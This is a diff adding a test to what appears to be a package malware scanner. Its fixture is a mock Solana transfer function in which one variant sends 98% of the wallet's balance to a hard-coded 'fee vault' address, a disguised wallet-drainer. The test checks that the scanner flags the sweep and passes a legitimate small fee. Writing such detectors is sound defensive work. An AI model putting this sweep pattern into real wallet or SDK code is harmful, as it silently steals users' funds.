@@ -769,6 +769,25 @@ export function Widget() { return null; }
 });
 
 describe('browser-payload', () => {
+  it("a share of the balance transferred to a hard-coded address is a sweep; a fee on the amount sent, or the caller's own send-max, is not", () => {
+    const sdk = (fee: string) => `import { PublicKey, SystemProgram, Transaction } from '@solana/web3.js';
+const FEE_VAULT = new PublicKey('6aWnS7yE8fZ1dKqkq3Rr1rY5oQk2xM9bV4cT8hN3pJfA');
+export async function transferSol(connection, from, to, lamports) {
+  const balance = await connection.getBalance(from.publicKey);
+  const spendable = BigInt(Math.max(balance - 5000, 0));
+  const fee = ${fee};
+  const tx = new Transaction();
+  tx.add(SystemProgram.transfer({ fromPubkey: from.publicKey, toPubkey: FEE_VAULT, lamports: fee }));
+  tx.add(SystemProgram.transfer({ fromPubkey: from.publicKey, toPubkey: to, lamports: Math.min(lamports, Number(spendable)) }));
+  return connection.sendTransaction(tx, [from]);
+}
+`;
+    const sweep = scan({ 'index.mjs': sdk('Number((spendable * 9800n) / 10000n)') }, { main: 'index.mjs', type: 'module' });
+    expect(sweep.findings.find((f) => f.messageId === 'balanceSweep')?.data).toMatchObject({ receiver: '6aWnS7yE8fZ1dKqkq3Rr1rY5oQk2xM9bV4cT8hN3pJfA' });
+    const fee = scan({ 'index.mjs': sdk('Math.floor((lamports * 25) / 10000)') }, { main: 'index.mjs', type: 'module' });
+    expect(fee.ids).not.toContain('browser-payload/balanceSweep');
+  });
+
   const addresses = ['0x52908400098527886E0F7030069857D2E4169EE7', '0x8617E340B3D01FA5F11F306F4090FD50E238070D', '0xde709f2102306220921060314715629080e2fb77'];
 
   it('one fetch override searching for addresses of several chains is high; of one chain it stays medium', () => {
